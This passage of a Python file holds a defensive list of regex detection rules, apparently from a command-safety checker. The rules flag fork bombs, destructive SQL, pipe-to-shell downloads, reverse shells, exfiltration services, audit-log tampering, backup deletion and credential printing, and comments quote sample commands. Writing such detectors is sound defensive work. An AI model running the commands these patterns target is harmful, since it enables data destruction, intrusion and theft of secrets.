        ("fork_bomb", "fork bomb", r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;"),
        # DROP TABLE of scratch/temporary tables only (`scratch.tmp_x`, `tmp_ids`) is housekeeping,
        # not destruction: every listed table must be in a scratch schema or carry a temp prefix.
        ("sql_drop", "DROP of a database, schema or table",
         r"(?i)\bdrop\s+(?:database|schema|keyspace|collection)\b|\bdrop\s+table\b(?!(?:\s+if\s+exists)?\s+" + _SCRATCH_LIST + r")"),
        ("sql_drop", "drops columns of a table (ALTER TABLE … DROP COLUMN)",
         r"(?i)\balter\s+table\s+(?:if\s+exists\s+)?(?:only\s+)?(?!" + _SCRATCH_TABLE + r"\s)[\w.\"`]+\s+(?:(?:(?!\balter\s+table\s)[^;])*?,\s*)?drop\s+(?:column\s+)?(?:if\s+exists\s+)?(?!constraint\b|index\b|default\b|not\s+null\b|identity\b|expression\b|partition\b)[\w\"`]+"),
        ("sql_truncate", "TRUNCATE of a table", r"(?i)\btruncate\s+(?!(?:table\s+)?" + _SCRATCH_LIST + r")(?:table\s+)?[\w.\"`]+"),
        ("sql_delete_all", "DELETE without a WHERE clause",
         r"(?i)\bdelete\s+from\s+[\w.\"`]+\s*(?:;|$|\)|--|'|\")"),
        # a WHERE that is always true (`WHERE 1=1`, `WHERE true`, `… OR 'a'='a'`) bounds nothing
        ("sql_delete_all", "DELETE whose WHERE clause is always true",
         r"(?i)\bdelete\s+from\s+[\w.\"`]+\s+(?:as\s+)?(?:\w+\s+)?where\s+(?:(?:(?!\bdelete\s+from\s+[\w.\"`]+\s+(?:as\s+)?(?:\w+\s+)?where\s)[^;])*?\bor\s+)?" + _TAUTOLOGY),
        # no WHERE either: a table alias, a RETURNING list or a USING join bounds nothing
        # (`DELETE FROM orders o`, `DELETE FROM orders RETURNING *`, `DELETE FROM orders USING customers`)
        ("sql_delete_all", "DELETE without a WHERE clause",
         r"(?i)\bdelete\s+from\s+[\w.\"`]+(?:\s+(?:as\s+)?(?!(?:where|using|returning)\b)\w+)?\s*(?:;|$|\)|\breturning\b"
         r"|\busing\s+(?:(?!\bwhere\b|\bdelete\s)[^;])*(?:;|$))"),
        ("sql_update_all", "UPDATE without a WHERE clause",
         r"(?i)\bupdate\s+[\w.\"`]+\s+set\s+(?:(?!\bwhere\b|\bupdate\s+[\w.\"`]+\s+set\s)[^;])*(?:;|$)(?<!where)"),
        ("sql_update_all", "UPDATE whose WHERE clause is always true",
         r"(?i)\bupdate\s+[\w.\"`]+\s+set\s+(?:(?!\bupdate\s+[\w.\"`]+\s+set\s)[^;])*?\bwhere\s+(?:(?:(?!\bupdate\s+[\w.\"`]+\s+set\s)[^;])*?\bor\s+)?" + _TAUTOLOGY),
        ("world_writable", "world-writable permissions",
         # an octal mode whose "other" digit has the write bit (777, 666, 0776), or a symbolic one that
         # gives others or all write (`a+rwx`, `ugo+w`, `o=rw`, `u+x,o+w`)
         r"(?i)\bchmod\s+(?:-[a-z]+\s+)*(?:0?[0-7]{2}[2367]\b|(?:[ugoa]{0,4}[+=-][rwxXst]{0,6},){0,8}[ugo]{0,3}[ao][ugoa]{0,3}[+=][rwxXst]{0,5}w[rwxXst]{0,5}(?=[\s,;&|]|$))"),
        ("setuid", "sets the setuid bit", r"(?i)\bchmod\s+(?:-[a-z]+\s+)*(?:u\+s|[42][0-7]{3})\b"),
        ("pipe_to_shell", "pipes a download into a shell",
         r"(?i)\b(?:curl|wget|iwr|invoke-webrequest)\b(?:(?!\b(?:curl|wget|iwr|invoke-webrequest)\b)[^|;])*\|\s*(?:sudo\s+)?(?:(?:ba|z|k|da)?sh\b"
         # an interpreter that runs its standard input (`| python3`, `| node -`; `| python3 -m json.tool` reads it as data)
         r"|(?:python[23]?|perl|ruby|node|php)(?:\s+-)?\s*(?:$|[;&|)\n]))|\b(?:bash|sh)\s+<\(\s*(?:curl|wget)"
         # the download as the script argument: `sh -c "$(curl …)"`, `python3 -c "$(wget -qO- …)"`
         r"|\b(?:(?:ba|z|k|da)?sh|python[23]?|perl|ruby|node|php)\s+-[ce]\s+[\"']?\$\(\s*(?:curl|wget)\b"),
        # the same in two steps: the download saved to a script file that is then run
        ("pipe_to_shell", "downloads a script and runs it",
         r"(?i)\b(?:curl|wget)\b(?:(?!\b(?:curl|wget)\b)[^|;\n])*?(?:\s-(?:o|O|-output|-output-document)[=\s]?\s*|>\s*)[\"']?([\w./~$-]+\.(?:sh|bash|zsh|ps1|py|pl|rb))\b"
         # (the gap stops at the next download, so each character is scanned for one download only)
         r"(?:(?!curl|wget)[\s\S]){0,300}?(?:\b(?:sudo\s+)?(?:ba|z|k|da)?sh|\bsource|\bpython3?|\bperl|\bruby|(?:^|[;&|\s])\.)\s+(?:-\S+\s+)*[\"']?\1\b"),
        ("disable_logging", "disables audit logging or monitoring",
         r"(?i)(?:\b(?:auditctl\s+-e\s*0|auditctl\s+-D)\b|\bsystemctl\s+(?:stop|disable|mask)\s+(?:auditd|rsyslog|syslog|journald|systemd-journald|falco|osqueryd|crowdstrike|falcon-sensor|wazuh)|\bstop-logging\b|\bdelete-trail\b|\bdisable[_ -]?(?:audit|logging|cloudtrail|monitoring)|\b(?:audit|logging)[_ ]?(?:enabled|enable)\b\W{0,4}(?:false|off|0|no)\b|\bset\s+global\s+general_log\s*=\s*(?:0|off)|\bhistory\s+-c\b|\bunset\s+histfile\b|\bpgaudit\.log\w*\s*(?:=|\bto\b)\s*['\"]?none\b|\blog_statement\s*(?:=|\bto\b)\s*['\"]?none\b|\bhist(?:file\s*=\s*/dev/null|(?:file)?size\s*=\s*0)\b|\bset\s+\+o\s+history\b|(?<![>\w])>\s*/var/log/\S+|\brm\s+-\w*r\w*\s+(?:-\S+\s+)*/var/log/?(?:\*|\s|$)|\baudit\w*retention\w*(?:\W+value)?\W{1,6}0\b|\b(?:delete\s+from|truncate\s+(?:table\s+)?|drop\s+table\s+)\s*[\w.\"`]*audit\w*"
         r"|\bguardduty\s+(?:update-detector\b(?:(?!\bguardduty\s)[^\n|;])*--no-enable\b|delete-detector\b|disassociate-from-(?:master|administrator)-account\b|stop-monitoring-members\b)"
         r"|\bsecurityhub\s+disable-security-hub\b|\bconfigservice\s+(?:stop|delete)-configuration-recorder\b|\baccessanalyzer\s+delete-analyzer\b"
         # an audit extension dropped (pgaudit), an audit trail's log group kept under a hundred days
         r"|\bdrop\s+extension\s+(?:if\s+exists\s+)?[\"`]?\w*audit\w*"
         r"|\bput-retention-policy\b(?:(?!\bput-retention-policy\b)[^\n|;])*(?:cloudtrail|audit)(?:(?!\bput-retention-policy\b)[^\n|;])*--retention-in-days[= ]+\d{1,2}(?!\d)"
         r"|\bput-retention-policy\b(?:(?!\bput-retention-policy\b)[^\n|;])*--retention-in-days[= ]+\d{1,2}(?!\d)(?:(?!\bput-retention-policy\b)[^\n|;])*(?:cloudtrail|audit))"
         # an audit trigger switched off (`ALTER TABLE t DISABLE TRIGGER orders_audit_trg`, `DISABLE TRIGGER ALL`,
         # `SET session_replication_role = replica`, which skips every trigger, audit ones too)
         r"|\bdisable\s+trigger\s+(?:all\b|[\"`]?\w*audit)|\bsession_replication_role\s*(?:=|\bto\b)\s*'?replica\b"
         # audit rules commented out, deleted or emptied (`sed -i 's/^-w /#-w /' /etc/audit/rules.d/x.rules`,
         # `sed -i '/-w /d' /etc/audit/audit.rules`, `> /etc/audit/rules.d/x.rules`, `rm /etc/audit/rules.d/*`)
         r"|\bsed\b(?:(?!\bsed\b)[^\n;|&])*?\s-i(?:(?!\bsed\b)[^\n;|&])*?(?:#|/d\b)(?:(?!\bsed\b)[^\n;|&])*?/etc/audit/|(?<![>\w])>\s*/etc/audit/\S*rules|\brm\b(?:(?!\brm\b)[^\n;|&])*?/etc/audit/(?:rules\.d/|audit\.rules)"
         # entries erased from the logs themselves (round 19f): the journal vacuumed down to under a day
         # or a few kilobytes (`journalctl --vacuum-time=1s`; housekeeping keeps days or weeks), a log
         # audit, auth or system log truncated to zero (an application's debug log emptied to free a disk is
         # housekeeping), or lines deleted in place from any file under /var/log (`sed -i '/x/d'`)
         r"|\bjournalctl\b[^\n;|&]*--vacuum-(?:time[= ]\s*\d+\s*(?:s|sec|seconds?|m|min|minutes?|h|hours?)(?![\w.])|size[= ]\s*\d{1,3}\s*[kb]?(?![\w.]))"
         r"|\btruncate\b[^\n;|&]*?(?:-s\s*|--size[= ]\s*)0(?![\w.])[^\n;|&]*?/var/log/" + _SECURITY_LOG +
         r"|\btruncate\b[^\n;|&]*?/var/log/" + _SECURITY_LOG + r"[^\n;|&]*?(?:-s\s*|--size[= ]\s*)0(?![\w.])"
         r"|\bsed\b(?:(?!\bsed\b)[^\n;|&])*?\s-i(?:(?!\bsed\b)[^\n;|&])*?/d\b(?:(?!\bsed\b)[^\n;|&])*?/var/log/"),
        # Redaction or masking of personal data switched off by a setting (`LOG_REDACT_PII=false`,
        # `mask_card_data: off`): what was kept out of logs and exports goes into them.
        ("disable_redaction", "switches off redaction or masking of personal or card data",
         r"(?i)\b\w*(?:redact|scrub|anonymi[sz]|pseudonymi[sz]|(?:pii|card|pan|data|log|field)[_-]?mask|mask(?:ing)?[_-]?(?:pii|card|pan|data|ssn|sensitive|personal|fields?|logs?))\w*[\"']?\s*[=:]\s*[\"']?(?:false|off|no|none|0|disabled?)(?![\w.-])"),
        # A masked view re-identified: a hash of a clear-text column compared with the view's
        # hashed column (`ON c.email_sha256 = encode(sha256(l.email::bytea), 'hex')`).
        ("reidentification", "re-identifies masked data by hashing clear-text values to match its hashed columns",
         _Reidentification()),
        # Deleting the record of what happened: cluster events, log groups or streams, security
        # alerts (not an alert rule, a silence or a notification channel, which are configuration).
        ("evidence_deletion", "deletes audit evidence (cluster events, log streams, security alerts)",
         r"(?i)\bkubectl\b(?:(?!\bkubectl\b)[^;|&])*?\bdelete\s+(?:events?|ev)\b|\blogs\s+delete-log-(?:group|stream)\b|\bgcloud\s+logging\s+logs\s+delete\b"
         r"|\b(?:delete|remove|purge)\s+(?:security\s+)?alerts?\b(?!\s*[-_ ]?(?:rules?|polic\w*|channels?|contacts?|templates?|silences?|routes?|receivers?|configs?|settings?)\b)"),
        ("disable_backups", "switches a database's automated backups off",
         r"(?i)--backup-retention-period[= ]+0(?!\d)|\bbackup_?retention_?period\W{0,4}0(?![\d.])"),
        # Backups removed: a recursive delete or a find-delete over a backup store without an
        # age bound of a week or more, an expiry rule on a backup bucket under a week, or an AWS
        # Backup recovery point or vault deleted. Pruning backups older than N>=7 days is housekeeping.
        ("backup_deletion", "deletes or expires backups",
         r"(?i)\brm\s+(?:-[a-z]+\s+)*-[a-z]*r[a-z]*\s+(?:-[a-z-]+\s+)*['\"]?" + _BACKUP_NAME + r"['\"]?(?:\s|$|;|&|\|)"
         r"|\bfind\s+['\"]?" + _BACKUP_NAME + r"['\"]?(?=[^;|&\n]*(?:-delete\b|-exec\s+rm\b))(?![^;|&\n]*-m(?:time|min)\s+\+?(?:[7-9]|[1-9]\d+)\b)(?![^;|&\n]*-mmin\b)"
         r"|\bput-bucket-lifecycle\S*\s[^\n;|]*?--bucket[= ]+['\"]?" + _BACKUP_NAME + r"[^\n;|]*?\"(?:Noncurrent)?(?:Days|NoncurrentDays)\"\s*:\s*[0-6]\b"
         r"|\bbackup\s+delete-(?:recovery-point|backup-vault|backup-plan)\b"
         r"|\bs3\s+rm\s+['\"]?s3://" + _BACKUP_NAME),
        # Data kept for no time at all: a retention, TTL or drop-after of zero (the next run of
        # the policy removes everything).
        ("retention_wipe", "sets a retention or expiry of zero (everything is deleted at the next run)",
         r"(?i)\b(?:retention|drop_after|ttl|expire_after|expir\w*)\w*(?:\s*=>\s*|\W{0,4})(?:interval\s*'\s*0+\s*(?:seconds?|minutes?|hours?|days?|weeks?|months?|years?)?\s*'|'?0+\s*(?:s|m|h|d|days?|hours?)?'?(?![\w.]))"
         # a retention call's interval argument (`add_retention_policy('events', INTERVAL '0 hours')`)
         r"|(?:retention|drop_after|ttl)\w*\s*\([^;)]{0,80}?\binterval\s*'\s*0+\s*(?:seconds?|minutes?|hours?|days?|weeks?|months?|years?)?\s*'"),
        ("snapshot_share", "shares a database snapshot, disk snapshot or machine image with another account",
         r"(?i)\brds\s+modify-db(?:-cluster)?-snapshot-attribute\b[^\n|;]*--values-to-add\b"
         r"|\bec2\s+modify-snapshot-attribute\b[^\n|;]*(?:--operation-type\s+add|createVolumePermission\S*add)"
         r"|\bec2\s+modify-image-attribute\b[^\n|;]*launch-?permission[^\n|;]*add"),
        ("disable_mfa", "disables multi-factor authentication or a security control",
         r"(?i)(?:\b(?:disable|turn[_ -]?off|remove|bypass)[_ -]?(?:mfa|2fa|two[_ -]?factor|multi[_ -]?factor|sso)|\b(?:mfa|2fa|two_factor|multi_factor)(?:_required|_enabled|_enforced)?[\"']?(?:\s*(?:[:=]|=>)\s*|\s+)[\"']?(?:false|off|disabled|0|no)\b|\bsetenforce\s+0\b|\bufw\s+disable\b|\biptables\s+-F\b|\bsystemctl\s+(?:stop|disable)\s+(?:firewalld|ufw|apparmor)|\bdisable[_ -]?(?:firewall|antivirus|defender|edr|selinux))"),
        ("open_to_world", "opens a service to the whole internet",
         r"(?i)(?:0\.0\.0\.0/0|::/0)"),
        ("iam_wildcard", "grants a wildcard IAM permission",
         r"(?i)(?:\"Action\"\s*:\s*\"\*\"|\baction\W{0,4}\*|\bAdministratorAccess\b|--role[= ]+(?:roles/)?owner\b|\bcluster-admin\b"
         # AWS managed policies that grant every action (but IAM's) or every action of a service on every resource
         r"|\bPowerUserAccess\b|arn:aws:iam::aws:policy/(?:[\w-]+/)?\w*FullAccess\b"
         # every action of a service on every resource (`"Action": "s3:*", "Resource": "*"`), in either order
         r"|\"Action\"\s*:\s*\[?\s*\"[\w-]+:\*\"(?:(?!\"Action\"\s*:\s*\[?\s*\"[\w-]+:\*\")[^{}])*?\"Resource\"\s*:\s*\[?\s*\"\*\"|\"Resource\"\s*:\s*\[?\s*\"\*\"(?:(?!\"Resource\"\s*:\s*\[?\s*\"\*\")[^{}])*?\"Action\"\s*:\s*\[?\s*\"[\w-]+:\*\")"),
        ("ssh_key_injection", "adds an SSH key to authorized_keys", r"(?i)(?:>>?\s*\S*authorized_keys|\bssh-copy-id\b)"),
        # round 19d: the same access given through the forge: a repository deploy key or an account
        # SSH key added with the GitHub CLI (`gh repo deploy-key add key.pub --allow-write`), or a
        # deploy key posted to the REST API; whoever holds the private half reads or pushes the repository
        ("ssh_key_injection", "adds an SSH key or deploy key to a repository or account",
         r"(?i)\bgh\s+(?:repo\s+deploy-key|ssh-key)\s+add\b|\bgh\s+api\b(?:(?!\bgh\s)[^;|&\n])*?/repos/[^\s/]+/[^\s/]+/keys\b(?:(?!\bgh\s)[^;|&\n])*?(?:-X\s*POST|--method\s+POST|\s-[fF]\s)"),
        ("privilege_shell", "opens a root shell or edits sudoers",
         r"(?i)(?:\bsudo\s+(?:-i\b|su\b|-s\b|bash\b|sh\b)|\bvisudo\b|/etc/sudoers|\busermod\s+(?:-a\s+)?-a?G\s*\S*\b(?:sudo|wheel|admin|root)\b|\bNOPASSWD\b)"),
        ("force_push_protected", "force-pushes a protected branch",
         _ForcePush()),
        # the same by refspec: `+src:main` forces, `:release/2.4` and `--delete main` remove the
        # branch, `--mirror` overwrites every ref
        ("force_push_protected", "force-pushes or deletes a protected branch by refspec",
         r"(?i)\bgit\s+push\b(?:(?!\bgit\s+push\b)[^;|&\n])*?(?:\s\+(?:[^\s:]*:)?|\s:|\s(?:--delete|-d)\s+(?:\S+\s+)?)(?:refs/heads/)?(?:main|master|release\b[\w./-]*|production|prod|trunk)\b"
         r"|\bgit\s+push\b(?:(?!\bgit\s+push\b)[^;|&\n])*\s--mirror\b"),
        ("destroy_infrastructure", "destroys infrastructure or a namespace",
         r"(?i)(?:\bterraform\s+destroy\b|\bkubectl\s+(?:--?[a-z][\w-]*(?:=[\w.:/@-]+|\s+(?!delete\b)[\w.:/@-]+)?\s+){0,6}delete\s+(?:--?[a-z][\w-]*(?:=[\w.:/@-]+|\s+[\w.:/@-]+)?\s+){0,6}(?:ns|namespaces?|nodes?|pv|persistentvolumes?|--all|deploy(?:ments?)?|statefulsets?|sts|daemonsets?|ds|replicasets?|rs|svc|services?|ingress(?:es)?|ing|pvc|persistentvolumeclaims?|crds?|customresourcedefinitions?|clusters?)(?:\b|/)|\bkubectl\s+delete\b(?:(?!\bkubectl\s+delete\b)[^;|])*--all\b|\baws\s+s3\s+rb\b(?:(?!\baws\s+s3\s+rb\b)[^;|])*--force|\baws\s+s3\s+rm\b(?:(?!\baws\s+s3\s+rm\b)[^;|])*--recursive|\bgcloud\s+projects\s+delete\b|\baz\s+group\s+delete\b|\bdocker\s+system\s+prune\s+-a)"),
        # a cloud database, server, cluster or store deleted with what it holds, by the
        # service's own CLI words (global flags may come between the CLI's name and them)
        ("destroy_infrastructure", "deletes a cloud database, server, cluster or storage",
         r"(?i)\b(?:rds\s+delete-db-(?:instance|cluster)|docdb\s+delete-db-cluster|ec2\s+terminate-instances"
         r"|dynamodb\s+delete-table|s3api\s+delete-bucket|(?:eks|redshift)\s+delete-cluster|elasticache\s+delete-(?:cache-cluster|replication-group)"
         r"|efs\s+delete-file-system|cloudformation\s+delete-stack"
         r"|(?:sql|compute|spanner|bigtable|redis|filestore|alloydb|memcache)\s+instances\s+delete"
         r"|(?:container|dataproc|alloydb|bigtable)\s+clusters\s+delete|storage\s+buckets\s+delete|gsutil\s+(?:-\w+\s+)*rb"
         # every object under a prefix (as `aws s3 rm --recursive` above): `gsutil -m rm -r`, `gcloud storage rm --recursive`
         r"|(?:gsutil\s+(?:-\w+\s+)*|gcloud\s+storage\s+)rm\s+(?:-\w+\s+)*(?:-\w*r\w*|--recursive)"
         r"|storage\s+(?:blob\s+delete-batch|container\s+delete|account\s+delete|share\s+delete|fs\s+delete)"
         r"|az\s+(?:vm|aks|cosmosdb|keyvault)\s+delete|az\s+(?:sql\s+(?:db|server)|(?:postgres|mysql)\s+(?:flexible-server|server))\s+delete)(?![\w-])"),
        ("reverse_shell", "opens a reverse shell",
         r"(?i)(?:/dev/tcp/\d|\bnc(?:at)?\s+(?:-\w+\s+)*-e\s|\bsocat\b(?:(?!\bsocat\b)[^;|])*exec:|\bbash\s+-i\s+>&"
         # a one-line interpreter that connects a socket and hands it a shell (each gap stops at the next start)
         r"|\b(?:python[23]?|perl|ruby|php)\s+-[cer]\s+(?:(?!\b(?:python[23]?|perl|ruby|php)\s)[^\n]){0,600}?\bsocket\b"
         r"(?:(?!\b(?:python[23]?|perl|ruby|php)\s)[^\n]){0,600}?(?:subprocess|pty\.spawn|dup2|/bin/(?:ba)?sh\b))"),
        ("exfil_service", "sends data to a paste, file-drop or request-capture service",
         r"(?i)\b(?:pastebin\.com|paste\.ee|hastebin|ghostbin|transfer\.sh|file\.io|0x0\.st|gofile\.io|anonfiles|temp\.sh|webhook\.site|requestbin|pipedream\.net|ngrok(?:-free)?\.(?:io|app|dev)|interact\.sh|oast\.(?:fun|pro|live|site|online|me)|burpcollaborator|dnslog\.cn|beeceptor\.com|hookbin)"),
        # Every fetch and push of a remote rewritten to another host (`git config --global
        # url."https://mirror.example/".insteadOf "https://github.com/"`): code and credentials go there.
        ("remote_redirect", "rewrites git remote URLs to another host (insteadOf)",
         r"(?i)\bgit\s+config\b(?:(?!\bgit\s+config\b)[^;|&\n])*?\.(?:push)?insteadof\b"),
        ("cloud_metadata", "reads the cloud instance metadata service (instance credentials)",
         r"(?i)(?:169\.254\.169\.254|fd00:ec2::254|metadata\.google\.internal|100\.100\.100\.200)"),
        ("sql_superuser", "creates or grants a database superuser or all privileges",
         r"(?i)(?:\b(?:create|alter)\s+(?:role|user)\b(?:(?!\b(?:create|alter)\s+(?:role|user)\b)[^;])*\b(?:superuser|createrole|bypassrls|replication)\b|\bgrant\s+all\s+(?:privileges\s+)?on\b|\bgrant\s+\w+\s+to\s+\w+\s+with\s+admin\s+option|\bgrant\s+(?:rds_superuser|pg_write_server_files|pg_execute_server_program|dba|sysadmin|db_owner)\b)"),
        # round 19d: PostgreSQL's predefined roles that read or write every table or reach the
        # server's files and programs, granted or given at creation (`CREATE ROLE x LOGIN IN ROLE
        # pg_read_all_data`); the monitoring roles (pg_read_all_stats, pg_monitor) stay ordinary
        ("sql_superuser", "creates or grants a database role that reads or writes every table",
         r"(?i)\bgrant\s+(?:[\w\"]{1,64}\s*,\s*){0,8}(?:pg_read_all_data|pg_write_all_data|pg_read_server_files)\b"
         r"|\b(?:create|alter)\s+(?:role|user)\b[^;]{0,400}?\bin\s+(?:role|group)\s+(?:[\w\"]{1,64}\s*,\s*){0,8}"
         r"(?:pg_read_all_data|pg_write_all_data|pg_read_server_files|pg_write_server_files|pg_execute_server_program|rds_superuser)\b"),
        # An authorisation function that returns True for a hard-coded identity (an e-mail domain,
        # a user name, an address) before its real check: a planted backdoor.
        ("auth_backdoor", "hard-codes an identity that bypasses an authorisation check",
         r"(?i)\b(?:def|function|func|fn|const|let|var|public|private|static|bool|boolean)\s+\w*(?:admin|auth|perm|access|allow|privileg|superuser|staff|role)\w*"
         r"[\s\S]{0,300}?\bif\b[^\n]{0,80}?\b(?:e-?mail|user_?name|login|uid|user_?id|domain|remote_addr|ip|host(?:name)?|headers?)\b[^\n]{0,40}?"
         r"(?:\.?(?:endswith|startswith|includes)|===?|\bin\b)\s*\(?\s*['\"][^'\"\n]{2,80}['\"][^\n]{0,8}\s*(?:\{\s*)?return true\b"),
        # An instruction to bill a service as something other than what was provided, whatever
        # actually happens (upcoding): "bill as a complex visit even if routine".
        ("billing_misrepresentation", "instructs billing a service as something it may not be (upcoding)",
         r"(?i)\b(?:bill(?:ed)?|invoice(?:d)?)\s+(?:it\s+|this\s+|them\s+|the\s+\w+\s+)?as\s+(?!(?:usual|normal|planned|agreed|before|always)\b)"
         r"[^.;\n]{0,80}?\b(?:even\s+(?:if|though|when)|regardless|whether\s+or\s+not|no\s+matter)\b"),
        ("private_key_file", "reads a private key file",
         r"(?i)\b(?:cat|less|more|head|tail|cp|mv|move|rename|copy|rsync|scp|base64|xxd|openssl\s+\w+\s+-in|read_file|type)\b(?:(?!\b(?:cat|less|more|head|tail|cp|mv|move|rename|copy|rsync|scp|base64|xxd|openssl\s+\w+\s+-in|read_file|type)\b)[^;|])*(?:privkey|private[-_]?key|server\.key|tls\.key|\.key\b|id_(?:rsa|ed25519|ecdsa)\b(?!\.pub))"),
        # Commands whose output is a live credential or every environment variable at once. One code,
        # several patterns, each woken only by its own literals (`_DANGER_PART_TRIGGERS`): a
        # command that merely says `env` no longer runs the secret-store alternation.
        # (1) a CLI's stored or freshly minted token
        ("credential_print", "prints a stored credential, a fresh access token or the whole environment",
         r"(?i)(?=[gcakshdvnpyilmtbxoj\n])(?:\bgit\s+credential(?:-\w+)?\s+(?:fill|get)\b|\bgit\s+config\b[^;|&\n]*--get\S*\s+credential\.\S*(?:password|token)"
         r"|\bgh\s+auth\s+token\b|\bgh\s+auth\s+status\b[^;|&\n]*(?:--show-token|-t\b)|\bgcloud\s+auth\s+(?:application-default\s+)?print-(?:access|identity)-token\b"
         r"|\bget-login-password\b|\bget-authorization-token\b|\bconfigure\s+get\s+\S*(?:secret|token|password)"
         r"|\baz\s+account\s+get-access-token\b|\bkubectl\s+config\s+view\b[^;|&\n]*--raw\b|\bsecurity\s+find-(?:generic|internet)-password\b[^;|&\n]*\s-[a-zA-Z]*[wg][a-zA-Z]*\b"
         r"|\bheroku\s+auth:token\b|\bdocker-credential-\S+\s+get\b|\bvault\s+print\s+token\b"
         # a package manager's stored registry token (`npm config get //registry.npmjs.org/:_authToken`)
         r"|\b(?:npm|pnpm|yarn|pip|pip3|poetry|conda)\s+config\s+get\s+(?:(?!config\s+get\b)[^;|&\n])*?(?:auth|token|password|secret)"
         # a fresh credential minted to take away (`kubectl create token sa --duration=720h`, an STS
         # session token, a service-account key file, a reset service-principal secret)
         r"|(?:^|\n|\bkubectl\b(?:(?!\bkubectl\b|\bcreate\s)[^\n;|&])*\s)create\s+token\s+[\w.-]+(?:\s+-|\s*(?:$|\n))|\bsts\s+get-session-token\b"
         r"|\bservice-accounts\s+keys\s+create\b|\bad\s+(?:sp|app)\s+credential\s+reset\b|\biam\s+create-(?:access-key|service-specific-credential)\b"
         # round 17b: a package manager's user config (where its tokens live) printed by its resolved
         # path (`cat "$(npm config get userconfig)"`); a config value whose key names a connection
         # string, DSN or password selected with jq/yq and printed as it is (not piped on)
         r"|\b(?:cat|less|more|head|tail|bat|strings|base64|xxd|od|cp)\b[^;|&\n]{0,40}?\$\(\s*(?:npm|pnpm|yarn)\s+config\s+get\s+(?:user|global)config\b"
         r"|\b[jy]q\s+(?:-\w+\s+)*['\"][^'\"\n|]*\.(?:connection_?strings?|connectionstrings?|conn_?str|database_?url|db_?url|dsn|password|passwd|client_?secret|secret_?key)\b[^'\"\n|]*['\"]\s+[^\s|;&<>]+\s*(?:$|[;&\n]))"),
        # (2) a secret manager asked for a value, not for names or metadata (round 17b): SSM
        # parameters decrypted, Secrets Manager values, Vault reads, Google Secret Manager
        # versions, Azure Key Vault secrets, 1Password references and revealed items, Doppler,
        # SOPS decryption, pass/gopass, Heroku config values, chamber, a keychain dump, a CI
        # system's variables read through its API, a Kubernetes secret printed with its data
        ("credential_print", "prints a stored credential, a fresh access token or the whole environment",
         r"(?i)(?=[svkodgpch/])(?:\bssm\s+get-parameters?(?:-by-path)?\b(?:(?!\bssm\s)[^;|&\n])*?\s--with-decryption\b"
         r"|\bsecretsmanager\s+(?:batch-)?get-secret-value\b"
         r"|\bvault\s+(?:kv\s+get|read)\b(?!\s+(?:-\S+\s+)*['\"]?/?sys/)"
         r"|\bsecrets\s+versions\s+access\b|\bkeyvault\s+secret\s+(?:show|download)\b"
         r"|\bop\s+read\s+(?:-\S+\s+)*['\"]?op://|\bop\s+item\s+get\b(?:(?!\bop\s)[^;|&\n])*?\s--reveal\b"
         r"|\bdoppler\s+secrets\s+(?:get|download)\b|\bsops\s+(?:(?:-\S+\s+\S+\s+)*?(?:-d|--decrypt)\b|decrypt\b)"
         r"|\b(?:go)?pass\s+show(?![\w-])|\bheroku\s+config:get\b|\bchamber\s+(?:read|export)\b|\bsecurity\s+dump-keychain\b[^;|&\n]*\s-d\b"
         r"|/api/v4/(?:projects|groups)/[^\s/?'\"]+/variables\b|\bglab\s+variable\s+(?:get|export)\b"
         # round 19d: the Kubernetes API's secrets read directly (`curl … /api/v1/namespaces/payments/secrets`):
         # the raw form of `kubectl get secrets -o yaml`, values included
         r"|/api/v1/(?:namespaces/[^\s/?'\"]+/)?secrets\b"
         r"|\b(?:kubectl|oc)\s+(?:(?!\b(?:kubectl|oc)\s)[^;|&\n])*?\bget\s+secrets?\b(?:(?!\bget\s)[^;|&\n])*?"
         r"(?:\s(?:-o\s*=?\s*|--output[= ]\s*)['\"]?(?:ya?ml\b|json\b|jsonpath[^;|&\n]{0,80}?\.data\b|go-template|template|custom-columns)|\s--template\b))"),
        # (3) a program's or a process's whole environment
        ("credential_print", "prints a stored credential, a fresh access token or the whole environment",
         r"(?i)(?=[dprsjoc/])(?:\b(?:dict|print|pprint|repr|str|json\.dumps)\(\s*(?:dict\()?os\.environ\b(?!\s*[\[.]\s*(?:get\b|\[))|\bos\.environ\.(?:items|copy)\(\)"
         r"|\b(?:console\.(?:log|dir)|JSON\.stringify)\(\s*process\.env\s*[,)]|/proc/(?:self|\d+|\*|\$\w+|\$\{\w+\}|\$\([^()\n]{1,160}\)|`[^`\n]{1,160}`)/environ\b"
         # round 19d: ... unless the pipeline keeps only the variables' names (`| cut -d= -f1`,
         # `sed 's/=.*//'`, `awk -F= '{print $1}'`) or a yes/no or count (`grep -q`, `grep -c`),
         # after any `tr` that splits the entries: whether a setting is present, without its value
         r"(?![^;&\n|]*?(?:\|\s*tr\s[^|;&\n]*)*\|\s*(?:cut\s+(?:-d\s*['\"]?=['\"]?\s+-f\s*1|-f\s*1\s+-d\s*['\"]?=['\"]?)(?![\d,-])"
         r"|sed\s+(?:-\w+\s+)*['\"]s([/|#])=\.\*\1\1g?['\"]|awk\s+-F\s*['\"]?=['\"]?\s+['\"]\{\s*print\s+\$1\s*;?\s*\}['\"]"
         r"|grep\s+-\w*[qc]\w*\s))"
         # a running container's environment (`docker inspect --format '{{.Config.Env}}'`)
         r"|\b(?:docker|podman)\s+(?:container\s+)?inspect\b(?:(?!\binspect\b)[^;|&\n])*?\.Config\.Env\b"
         # round 20e (check half): ... unless a filter keeps only the names (`| jq -r '.[] | split("=")[0]'`, `| cut -d= -f1`)
         r"(?![^;&\n]*?\|\s*(?:jq\s+(?:-\w+\s+)*['\"]?[^;&\n]{0,80}?split\(\s*\\?['\"]?=\\?['\"]?\s*\)\s*\[\s*0\s*\]"
         r"|cut\s+(?:-d\s*['\"]?=['\"]?\s+-f\s*1|-f\s*1\s+-d\s*['\"]?=['\"]?)(?![\d,-])|awk\s+-F\s*['\"]?=['\"]?\s+['\"]\{\s*print\s+\$1\s*;?\s*\}['\"])))"),
        # (4) the shell's environment (`env`, `printenv`, `export -p`, `kubectl exec pod -- env`)
        ("credential_print", "prints a stored credential, a fresh access token or the whole environment",
         r"(?i)(?=[edpko;&|\n])(?:\bexport\s+-p\b|\bdeclare\s+-x\s*(?:$|[|>;&])|\bprintenv\s*(?:$|[|>;&])|(?:^|[;&|]\s*|\n)env\s*(?:$|[|>;&])"
         r"|\b(?:docker|podman|kubectl|oc)\s+exec\b(?:(?!\bexec\b)[^;|&\n])*?\s(?:printenv|env)\s*(?:$|[|>;&'\"]))"),
        # (5) BSD `ps e…`, which prints each process's environment
        ("credential_print", "prints a stored credential, a fresh access token or the whole environment",
